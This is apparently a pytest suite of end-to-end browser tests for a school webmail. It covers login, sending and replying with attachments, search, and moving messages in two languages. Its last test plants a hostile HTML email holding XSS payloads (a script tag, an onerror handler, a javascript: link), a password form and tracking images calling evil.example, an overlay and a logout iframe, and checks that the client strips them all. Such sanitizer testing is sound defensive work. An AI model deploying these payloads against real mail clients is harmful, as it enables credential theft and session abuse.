"""The whole path through the webmail in a real browser: with scripts and without, desktop and phone, both languages."""

import os

import pytest

from httpd.browser import DESKTOP, PHONE, Browser

WORDS = {
    "id": {"inbox": "Kotak masuk", "sent": "Pesanmu sudah terkirim.", "nobody": "Tidak ada yang memiliki alamat ini",
           "wrong": "Nama pengguna atau kata sandi tidak benar.", "trashed": "1 pesan dipindahkan ke tempat sampah."},
    "en": {"inbox": "Inbox", "sent": "Your message was sent.", "nobody": "Nobody has this address",
           "wrong": "The user name or the password is not right.", "trashed": "1 message moved to the trash."},
}
WAYS = [
    pytest.param(True, DESKTOP, "id", id="scripts-desktop-id"),
    pytest.param(False, DESKTOP, "en", id="no-scripts-desktop-en"),
    pytest.param(True, PHONE, "en", id="scripts-phone-en"),
    pytest.param(False, PHONE, "id", id="no-scripts-phone-id"),
]


@pytest.mark.parametrize("scripts, size, language", WAYS)
def test_ali_writes_to_budi_with_a_file_and_budi_replies(school, fresh, tmp_path, scripts, size, language):
    ali, budi = fresh("ali"), fresh("budi")
    words = WORDS[language]
    lesson = tmp_path / "Tugas subnetting é.bin"
    lesson.write_bytes(os.urandom(300_000))
    with Browser(school, scripts, size, language) as browser:
        browser.log_in(ali, "wrong")
        assert words["wrong"] in browser.text()
        browser.log_in(ali)
        assert browser.text("h1") == words["inbox"]
        assert not browser.overflows()

        browser.write()
        browser.fill("to", f"{budi}, nobody-here")
        browser.fill("subject", "Tugas <b>kelompok</b> & lab")
        browser.fill("text", "Halo Budi,\n\nini tugasnya. Selamat bekerja!")
        browser.fill("files", str(lesson))
        browser.press("send")
        assert words["nobody"] in browser.text("#to-fault")
        assert "Selamat bekerja!" in browser.one("[name=text]").get_attribute("value")
        assert not browser.overflows()
        browser.fill("to", budi)
        browser.press("send")
        assert words["sent"] in browser.text(".notice")
        browser.open("/mail/Sent")
        assert any("Tugas <b>kelompok</b> & lab" in row for row in browser.rows())
        browser.log_out()
        assert browser.path == "/login"
        browser.open("/mail/INBOX")
        assert browser.path.startswith("/login")

        browser.log_in(budi)
        browser.wait_for_row("Tugas")
        browser.read("Tugas")
        assert browser.text("h1") == "Tugas <b>kelompok</b> & lab"
        assert "Selamat bekerja!" in browser.text(".text")
        assert not browser.overflows()
        browser.click(".files a")
        assert browser.downloaded(lesson.name) == lesson.read_bytes()

        browser.go("a[href$='/reply']")
        assert browser.one("[name=subject]").get_attribute("value") == "Re: Tugas <b>kelompok</b> & lab"
        quoted = browser.one("[name=text]").get_attribute("value")
        assert "> Halo Budi," in quoted
        browser.one("[name=text]").send_keys("Terima kasih!")
        browser.press("send")
        assert words["sent"] in browser.text(".notice")
        browser.log_out()

        browser.log_in(ali)
        browser.wait_for_row("Re: Tugas")
        browser.click("input[name=uid]")
        browser.press("delete")
        assert words["trashed"] in browser.text(".notice")
        assert browser.rows() == []
        browser.open("/mail/Trash")
        assert len(browser.rows()) == 1
        assert browser.errors() == []


@pytest.mark.parametrize("scripts", [True, False])
def test_list_pages_search_marks_and_moves(school, fresh, scripts):
    siti = fresh("siti")
    client = school.imap(siti)
    for number in range(60):
        client.append("INBOX", "", None, f"From: x@y.example\r\nSubject: pesan {number:02}\r\n\r\nisi kuda{number:02}\r\n".encode())
    client.logout()
    with Browser(school, scripts) as browser:
        browser.log_in(siti)
        assert len(browser.rows()) == 50 and "pesan 59" in browser.rows()[0]
        browser.go("a[rel=next]")
        assert len(browser.rows()) == 10 and "pesan 09" in browser.rows()[0]
        browser.fill("q", "kuda42")
        browser.go(".search button")
        assert [("pesan 42" in row) for row in browser.rows()] == [True]
        browser.click("input[name=uid]")
        browser.click(".bulk .more summary")
        browser.choose("to", "Junk")
        browser.press("move")
        browser.open("/mail/Junk")
        assert len(browser.rows()) == 1 and len(browser.all(".messages .unread")) == 1
        browser.click("input[name=uid]")
        browser.press("read")
        assert len(browser.all(".messages .unread")) == 0
        browser.open("/mail/INBOX")
        assert "59" in browser.text(".list .range")


HOSTILE = """\
From: Penipu <x@evil.example>
To: budi
Subject: Menang!
MIME-Version: 1.0
Content-Type: multipart/related; boundary=b

--b
Content-Type: text/html; charset=utf-8

<h1 id=headline>Selamat</h1><script>document.title='owned'</script><img src=x onerror="document.title='owned'">
<img src="https://evil.example/t.gif"><img id=inside src="cid:logo"><form action="https://evil.example"><input name=password></form>
<a id=out href="https://evil.example/">klik</a><a href="javascript:document.title='owned'">klik2</a>
<div style="position:fixed;inset:0;z-index:9;background:url(https://evil.example/x)">overlay</div><iframe src="/logout"></iframe>
--b
Content-Type: image/png
Content-ID: <logo>
Content-Transfer-Encoding: base64

iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==
--b--
"""


def test_hostile_html_shows_its_text_and_does_nothing_else(school, fresh):
    siti = fresh("siti")
    client = school.imap(siti)
    client.append("INBOX", "", None, HOSTILE.replace("\n", "\r\n").encode())
    client.logout()
    with Browser(school) as browser:
        browser.log_in(siti)
        title = browser.driver.title
        browser.read("Menang!")
        browser.driver.switch_to.frame(browser.one("iframe.frame"))
        assert browser.text("h1") == "Selamat"
        pictures = browser.all("img[src]")
        assert [picture.get_property("naturalWidth") for picture in pictures] == [1]
        assert browser.all("script, form, input, iframe, [onerror], [style*=url], [href^=javascript]") == []
        link = browser.one(".mail a[href]")
        assert link.get_attribute("target") == "_blank" and "noreferrer" in link.get_attribute("rel")
        browser.driver.switch_to.default_content()
        assert browser.driver.title != "owned" and title != "owned"
        assert browser.errors() == []
